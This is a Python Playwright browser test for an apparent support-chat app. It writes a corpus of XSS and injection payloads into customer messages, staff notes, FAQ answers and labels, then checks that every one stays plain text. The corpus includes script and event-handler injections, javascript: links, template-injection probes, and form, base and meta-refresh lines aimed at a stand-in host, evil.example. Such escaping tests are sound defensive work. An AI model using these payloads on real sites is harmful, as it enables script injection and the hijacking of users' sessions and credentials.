"""Markup that people write stays text on every page, in a real browser."""

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import FOR_STAFF, PATIENCE, Demo, Phone, signed_in

pytestmark = pytest.mark.browser

RUN = "window.ran=1"
#: Each would run, or at least become an element, where it is not escaped.
CORPUS = (
    f"<script data-evil>{RUN}</script>",
    f"<img data-evil src=x onerror={RUN}>",
    f"<svg data-evil onload={RUN}>",
    f"<svg><script data-evil>{RUN}</script></svg>",
    f"\"><img data-evil src=x onerror='{RUN}'>",
    f"'><svg data-evil onload={RUN}>",
    f"</textarea><img data-evil src=x onerror={RUN}>",
    f"</title><script data-evil>{RUN}</script>",
    f"</script><script data-evil>{RUN}</script>",
    f"<a data-evil href=javascript:{RUN}>here</a>",
    f"<iframe data-evil srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details data-evil open ontoggle={RUN}>",
    f"<input data-evil autofocus onfocus={RUN}>",
    f"<math><mi data-evil xlink:href=javascript:{RUN}>",
    f"<style data-evil>@import 'data:,';</style><p onanimationend={RUN}>",
    f"<button data-evil hx-get=/ hx-trigger=load hx-on::after-request={RUN}>",
    "<form data-evil action=//evil.example><input name=csrf_token>",
    "<base data-evil href=//evil.example/>",
    "<meta data-evil http-equiv=refresh content='0;url=//evil.example'>",
    f"{{{{ 7*7 }}}} ${{7*7}} <%= 7*7 %> <b data-evil onclick={RUN}>bold</b>",
    f"javascript:{RUN}",
    "\u202e<b data-evil>turned round</b>\u202c",
    f"<<script data-evil>script>{RUN}//<</script>",
    f"&lt;img data-evil src=x onerror={RUN}&gt;",
)


@pytest.mark.timeout(600)
def test_markup_of_customers_and_of_staff_is_text_on_every_page(
    window: Callable[..., Page], phone: Callable[..., Phone], demo: Demo
) -> None:
    customer = phone(CORPUS[1])
    customer.ask("I want to talk to a person")
    for evil in CORPUS:
        customer.write(evil)
    page = window()
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    signed_in(page, demo, "as-admin")
    conversation = _write_as_staff(page, demo)

    paths = [path.replace("/inbox/1", conversation) for path in FOR_STAFF]
    assert {path: wrong for path in paths if (wrong := _wrong(page, demo, path))} == {}
    assert _wrong(customer.page, demo, None) is None


def _write_as_staff(page: Page, demo: Demo) -> str:
    """Write markup wherever staff can; return the path of the conversation."""
    page.goto(f"{demo.url}/inbox/")
    page.locator(".line", has_text=CORPUS[1]).first.click()
    page.get_by_test_id("claim").click()
    path = page.url.removeprefix(demo.url).split("?")[0]
    page.get_by_test_id("composer").fill(CORPUS[0])
    page.get_by_test_id("send").click()
    expect(page.get_by_test_id("bubble").last).to_contain_text(CORPUS[0])
    page.goto(f"{demo.url}{path}?write=note")
    page.locator("#note textarea").fill(" ".join(CORPUS[:8]))
    page.get_by_test_id("keep-note").click()
    page.goto(f"{demo.url}/admin/faq/opening_hours")
    page.get_by_label("Question", exact=True).fill(CORPUS[4])
    page.get_by_label("Answer", exact=True).fill("\n".join(CORPUS))
    page.get_by_test_id("save").click()
    expect(page.get_by_text(re.compile("Saved")).first).to_be_visible(timeout=PATIENCE)
    page.goto(f"{demo.url}/admin/labels")
    page.locator("main input[name=name]").first.fill(CORPUS[2][:30])
    page.locator("main button:not([type=button])").first.click()
    return path


def _wrong(page: Page, demo: Demo, path: str | None) -> str | None:
    """Return what became more than text."""
    if path is not None:
        page.goto(demo.url + path)
    found: str | None = page.evaluate(
        "window.ran ? 'it ran' : document.querySelector('[data-evil]')?.outerHTML"
    )
    return found
